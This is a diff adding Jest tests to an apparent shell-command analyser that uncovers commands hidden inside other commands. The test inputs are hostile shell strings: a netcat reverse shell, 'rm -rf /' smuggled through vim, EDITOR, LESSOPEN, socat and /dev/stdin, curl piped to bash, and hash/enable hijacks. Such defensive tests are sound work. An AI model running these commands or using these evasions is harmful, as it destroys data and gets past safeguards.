@@ -227,5 +227,25 @@ describe('file arguments of reading, copying and exfiltrating commands', () => {
     expect(lines(command(`nc -e /bin/sh 10.0.0.1 4444`))).toContain('sh');
     expect(lines(command(`ncat --sh-exec 'rm -rf /' host 80`))).toContain('rm -rf /');
     expect(lines(command(`socat TCP:host:80 EXEC:'rm -rf /'`))).toContain('rm -rf /');
+    expect(lines(command(`vim -c ':!rm -rf /' -c q x`))).toContain('rm -rf /');
+    expect(lines(command(`vi +'!rm -rf /' x`))).toContain('rm -rf /');
+    expect(command(`vim -c 'call system("id")' x`).problems).not.toEqual([]);
+    expect(command('vim -c wq x').problems).toEqual([]);
+    expect(lines(command(`EDITOR='rm -rf /' git commit`))).toContain('rm -rf /');
+    expect(lines(command(`LESSOPEN='|rm -rf /' less x`))).toContain('rm -rf /');
+    expect(lines(command(`PAGER=less git log`))).toContain('less');
+  });
+
+  it('reads scripts given as standard input through /dev/stdin', () => {
+    expect(lines(command(`bash /dev/stdin <<< 'rm -rf /'`))).toContain('rm -rf /');
+    expect(lines(command(`source /dev/stdin <<< 'rm -rf /'`))).toContain('rm -rf /');
+    expect(command('curl -s https://x | bash /dev/stdin').problems).not.toEqual([]);
+    expect(command('bash /dev/fd/3 3<x.sh').problems).not.toEqual([]);
+  });
+
+  it('reports builtins that change what command names run', () => {
+    expect(command('hash -p /bin/rm ls; ls -rf /').problems.map((p) => p.code)).toEqual(['unsupported']);
+    expect(command('enable -f ./evil.so ls').problems.map((p) => p.code)).toEqual(['unsupported']);
+    expect(command('hash -r').problems).toEqual([]);
   });
 });
